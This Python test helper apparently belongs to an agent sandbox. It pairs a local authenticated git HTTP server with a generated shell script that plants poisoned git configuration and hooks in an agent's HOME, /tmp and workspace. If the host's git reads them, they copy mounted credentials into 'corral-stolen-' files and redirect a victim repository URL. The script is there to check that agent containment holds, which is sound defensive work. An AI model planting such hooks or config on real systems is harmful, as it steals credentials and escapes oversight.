"""A git server over smart HTTP (`git http-backend`) behind HTTP Basic, for tests that need git
to ask for credentials: one user, one token, and a record of every request and who made it."""

from __future__ import annotations

import base64
import os
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit


class GitHttp:
    """Serves every repository under `root`; `requests` lists (path, user or None)."""

    def __init__(self, root: Path, user: str, token: str) -> None:
        self.root, self.user, self.token = root, user, token
        self.requests: list[tuple[str, str | None]] = []  # (path, user or None)
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                pass

            def do_GET(self) -> None:
                self._serve()

            def do_POST(self) -> None:
                self._serve()

            def _serve(self) -> None:
                who = outer.authorised(self.headers.get("Authorization", ""))
                url = urlsplit(self.path)
                outer.requests.append((url.path, who))
                if who is None:
                    self.send_response(401)
                    self.send_header("WWW-Authenticate", 'Basic realm="git"')
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                env = {
                    "PATH": "/usr/bin:/bin",
                    "GIT_PROJECT_ROOT": str(outer.root),
                    "GIT_HTTP_EXPORT_ALL": "1",
                    "REQUEST_METHOD": self.command,
                    "PATH_INFO": url.path,
                    "QUERY_STRING": url.query,
                    "CONTENT_TYPE": self.headers.get("Content-Type", ""),
                    "CONTENT_LENGTH": str(len(body)),
                    "REMOTE_USER": who,
                    "GIT_PROTOCOL": self.headers.get("Git-Protocol", ""),
                    "HTTP_CONTENT_ENCODING": self.headers.get("Content-Encoding", ""),
                }
                done = subprocess.run(
                    ["git", "http-backend"], input=body, env=env, capture_output=True, check=False
                )
                head, _, payload = done.stdout.partition(b"\r\n\r\n")
                status = 200
                headers: list[tuple[str, str]] = []
                for line in head.decode("latin-1").split("\r\n"):
                    name, _, value = line.partition(":")
                    if name.lower() == "status":
                        status = int(value.split()[0])
                    elif name:
                        headers.append((name, value.strip()))
                self.send_response(status)
                for name, value in headers:
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(payload)))
                self.end_headers()
                self.wfile.write(payload)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def authorised(self, header: str) -> str | None:
        if not header.startswith("Basic "):
            return None
        user, _, token = base64.b64decode(header[6:]).decode().partition(":")
        return user if (user, token) == (self.user, self.token) else None

    def __enter__(self) -> GitHttp:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


TRAP_PREFIX = "corral-trap-"
STOLEN_PREFIX = "corral-stolen-"
# Every hook a clone, fetch or checkout could run.
_HOOKS = (
    "post-checkout", "post-merge", "post-rewrite", "post-index-change", "reference-transaction",
    "pre-commit", "pre-push", "pre-auto-gc", "fsmonitor-watchman", "push-to-checkout",
)  # fmt: skip


def git_traps(
    *, home: str, tmp: str, workspace: str, credentials: str, victim_url: str, marks: list[str]
) -> str:
    """A shell script the agent can run with what it may write (its HOME and /tmp, the
    workspace): git configuration and hooks that, read by any git that has `credentials`
    mounted, would each leave a file `corral-trap-<name>` (saying whether the credentials
    were readable where it ran) and, where they were, a copy of them, `corral-stolen-<name>`,
    in its HOME and each of `marks` it can write; and redirect
    `victim_url` to a repository of the agent's (a file `evil.txt`). `tmp` is the agent's
    /tmp (its HOME in a pod).

    Planted in `$HOME/.gitconfig` and `/tmp/.gitconfig` (one file when HOME is /tmp),
    `$XDG_CONFIG_HOME/git/config`, the workspace's `.git/config` and `.git/hooks`, with a
    directory the owner cannot write (a checkout that cannot delete it is wedged).
    """
    hooks = " ".join(_HOOKS)
    script = f"""set -eu
home={home}; tmp={tmp}; ws={workspace}; creds={credentials}
trap_program() {{  # trap_program PATH NAME
  cat > "$1" <<PROGRAM
#!/bin/sh
for d in "\\$HOME" {" ".join(marks)}; do
  echo "uid=\\$(id -u) home=\\$HOME credentials=\\$([ -r $creds ] && echo readable)" \\
    > "\\$d/{TRAP_PREFIX}$2" 2>/dev/null
  [ -r $creds ] && cat $creds > "\\$d/{STOLEN_PREFIX}$2" 2>/dev/null
done
exit 0
PROGRAM
  chmod 755 "$1"
}}
# The agent's own git while it plants: none of its traps may spring yet.
g() {{ GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1 git -c core.hooksPath=/dev/null \
  -c core.fsmonitor=false "$@"; }}
plant() {{  # plant DIR CONFIG-FILE NAME
  mkdir -p "$1/hooks" "$(dirname "$2")"
  rm -rf "$1/evil.git" "$1/evil"
  g init -q -b main "$1/evil"
  echo evil > "$1/evil/evil.txt"
  g -C "$1/evil" add evil.txt
  g -C "$1/evil" -c user.name=a -c user.email=a@a commit -q -m evil
  g clone -q --bare "$1/evil" "$1/evil.git"
  for h in {hooks}; do trap_program "$1/hooks/$h" "$3-hook-$h"; done
  for t in fsmonitor helper askpass ssh; do trap_program "$1/$t" "$3-$t"; done
  cat >> "$2" <<CONFIG
[core]
	hooksPath = $1/hooks
	fsmonitor = $1/fsmonitor
	askPass = $1/askpass
	sshCommand = $1/ssh
[credential]
	helper = !$1/helper
[protocol]
	allow = always
[url "$1/evil.git"]
	insteadOf = {victim_url}
CONFIG
}}
plant "$home/.corral-traps" "$home/.gitconfig" home
plant "$tmp/.corral-traps" "$tmp/.gitconfig" tmp
plant "$home/.corral-traps-xdg" "$home/.config/git/config" xdg
if [ -d "$ws/.git" ]; then
  plant "$ws/.git/corral-traps" "$ws/.git/config" workspace
  mkdir -p "$ws/.git/hooks"
  for h in {hooks}; do trap_program "$ws/.git/hooks/$h" "ws-hook-$h"; done
fi
echo "left by the agent" > "$ws/agent-left-this.txt"
mkdir -p "$ws/wedge/inner" && touch "$ws/wedge/inner/f" && chmod 000 "$ws/wedge/inner"
chmod 500 "$ws/wedge"
echo planted
"""
    return script


def sprung_traps(*roots: Path) -> list[str]:
    """Every trap marker and stolen copy under `roots` (paths), sorted."""
    found: list[str] = []
    for root in roots:
        for dirpath, _dirs, filenames in os.walk(root):
            found += [
                os.path.join(dirpath, f)
                for f in filenames
                if f.startswith((TRAP_PREFIX, STOLEN_PREFIX))
            ]
    return sorted(found)
